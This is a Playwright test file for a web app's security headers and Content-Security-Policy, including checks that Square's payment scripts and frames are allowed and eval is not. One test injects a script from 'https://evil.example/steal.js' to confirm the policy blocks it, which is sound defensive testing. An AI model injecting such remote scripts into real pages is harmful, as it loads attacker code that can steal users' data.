import { expect, type Page, test } from '@playwright/test'

import { VIDEO_FRAME_ORIGINS } from '../../src/security/contentSecurityPolicy'
import { owner } from './accounts'
import { PORTAL_URL } from './squareStub'
import { open, toBilling } from './wizard'

// Headers of every kind of response (public page, wizard, admin, API), and the wizard and the
// admin's live preview working under their Content-Security-Policy.

const SQUARE_HOST = /^https:\/\/([a-z0-9-]+\.)*(squarecdn\.com|squareup\.com|squareupsandbox\.com)$/
const SQUARE_WILDCARD = /^https:\/\/\*\.(squarecdn\.com|squareup\.com|squareupsandbox\.com)$/

/** The policy as directive → sources. */
function directives(policy: string): Map<string, string[]> {
  return new Map(
    policy
      .split(';')
      .map((part) => part.trim().split(/\s+/))
      .filter(([name]) => name)
      .map(([name, ...sources]) => [name, sources]),
  )
}

/** The local Square stand-in's script, when the server was started with it (`npm start`). */
const LOOPBACK = /^http:\/\/(127\.0\.0\.1|localhost):\d+$/

const PORTAL_ORIGIN = new URL(PORTAL_URL).origin

/** Sources allowed in one directive only: the portal for forms, video players and files. */
const allowedIn = (directive: string, source: string) =>
  (directive === 'form-action' && source === PORTAL_ORIGIN) ||
  (directive === 'frame-src' && VIDEO_FRAME_ORIGINS.includes(source)) ||
  (directive === 'media-src' && source === 'https:')

/**
 * Every source naming another origin than the site's: only Square's may be there, besides the
 * customer portal that the account forms post to (checked on its own below), the video hosts'
 * players a video dialog frames, and video files for the browser's own player.
 */
const thirdParties = (policy: string) =>
  [...directives(policy).entries()]
    .flatMap(([name, sources]) => sources.filter((source) => !allowedIn(name, source)))
    .filter((source) => !source.startsWith("'") && !['data:', 'blob:'].includes(source))
    .filter((source) => ![SQUARE_HOST, SQUARE_WILDCARD, LOOPBACK].some((host) => host.test(source)))

for (const path of ['/', '/free', '/admin', '/api/users/me']) {
  test(`${path} carries the security headers`, async ({ request }) => {
    const response = await request.get(path)
    expect(response.status()).toBeLessThan(400)
    const headers = response.headers()
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin')
    expect(headers['x-frame-options']).toBe('SAMEORIGIN')
    expect(headers['permissions-policy']).toMatch(/camera=\(\)/)
    expect(headers['permissions-policy']).toMatch(/microphone=\(\)/)
    expect(headers['permissions-policy']).toMatch(/geolocation=\(\)/)
    // The end-to-end server is a production build.
    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8,}/)

    const policy = directives(headers['content-security-policy'] ?? '')
    expect(policy.get('frame-ancestors')).toEqual(["'self'"])
    expect(policy.get('object-src') ?? policy.get('default-src')).toEqual(["'none'"])
    expect(thirdParties(headers['content-security-policy'])).toEqual([])
  })
}

test('only the admin asks for the colour-scheme client hint', async ({ request }) => {
  // Critical-CH makes Chrome load a page twice, and the Vary splits caches: public pages omit it.
  for (const path of ['/', '/pricing', '/free', '/api/users/me']) {
    const headers = (await request.get(path)).headers()
    expect(headers['accept-ch'], path).toBeUndefined()
    expect(headers['critical-ch'], path).toBeUndefined()
    expect(headers.vary ?? '', path).not.toMatch(/Sec-CH/i)
  }
  const admin = (await request.get('/admin/login')).headers()
  expect(admin['critical-ch']).toBe('Sec-CH-Prefers-Color-Scheme')
})

test("the public site's policy allows Square's script and frames, and no eval", async ({
  request,
}) => {
  const policy = directives((await request.get('/free')).headers()['content-security-policy'])
  expect(policy.get('default-src')).toEqual(["'self'"])
  expect(policy.get('script-src')).toEqual(
    expect.arrayContaining([
      "'self'",
      'https://web.squarecdn.com',
      'https://sandbox.web.squarecdn.com',
    ]),
  )
  expect(policy.get('script-src')).not.toContain("'unsafe-eval'")
  expect(policy.get('frame-src')).toEqual(expect.arrayContaining(['https://*.squarecdn.com']))
  expect(policy.get('connect-src')).toEqual(
    expect.arrayContaining(["'self'", 'https://*.squareup.com', 'https://*.squareupsandbox.com']),
  )
})

test('forms on the public site may post to the site and the customer portal only', async ({
  request,
}) => {
  const policy = directives((await request.get('/sign-in')).headers()['content-security-policy'])
  expect(policy.get('form-action')).toEqual(["'self'", PORTAL_ORIGIN])
})

test('API answers may not run anything, even an uploaded file opened on its own', async ({
  request,
}) => {
  const policy = directives((await request.get('/api/pages')).headers()['content-security-policy'])
  expect(policy.get('default-src')).toEqual(["'none'"])
  expect(policy.has('sandbox')).toBe(true)
})

/** Collects the Content-Security-Policy violations of a page, from the console and the DOM. */
async function watchViolations(page: Page): Promise<string[]> {
  const violations: string[] = []
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) violations.push(message.text())
  })
  await page.exposeFunction('reportViolation', (text: string) => violations.push(text))
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const report = (window as unknown as { reportViolation: (text: string) => void })
        .reportViolation
      report(`${event.violatedDirective} blocked ${event.blockedURI}`)
    })
  })
  return violations
}

test('the wizard loads, with Square’s card form, without a policy violation', async ({ page }) => {
  const violations = await watchViolations(page)
  await open(page, '/free')
  await toBilling(page, 'Policy Check')
  expect(violations).toEqual([])

  // The policy is enforced: a script from anywhere else does not run.
  await page
    .evaluate(
      () =>
        new Promise((resolve) => {
          const script = document.createElement('script')
          script.src = 'https://evil.example/steal.js'
          script.onerror = resolve
          document.head.append(script)
        }),
    )
    .catch(() => undefined)
  await expect.poll(() => violations.join('\n')).toMatch(/script-src.*evil\.example/)
})

test('the admin and its live preview work under their policies', async ({ page }) => {
  const violations = await watchViolations(page)
  await page.goto('/admin/login')
  await page.locator('#field-email').fill(owner.email)
  await page.locator('#field-password').fill(owner.password)
  await page.getByRole('button', { name: /login/i }).click()
  await expect(page).toHaveURL(/\/admin\/?$/)

  // Every seeded page on one list page, so the one to open is there.
  await page.goto('/admin/collections/pages?limit=100')
  // The list rewrites its own address once loaded, which can swallow a click made just before.
  const link = page.getByRole('link', { name: 'Start your company for free' }).first()
  await expect(async () => {
    await link.click()
    await expect(page).toHaveURL(/\/admin\/collections\/pages\/\d+/, { timeout: 5_000 })
  }).toPass({ timeout: 30_000 })
  // The admin remembers whether live preview was open: open it only when it is closed.
  const toggle = page.getByRole('button', { name: /^(Exit )?Live Preview$/ })
  if ((await toggle.getAttribute('aria-label')) === 'Live Preview') await toggle.click()
  const preview = page.frameLocator('iframe#live-preview-iframe')
  await expect(preview.getByRole('heading', { name: 'Company Information' })).toBeVisible()
  expect(violations).toEqual([])
})
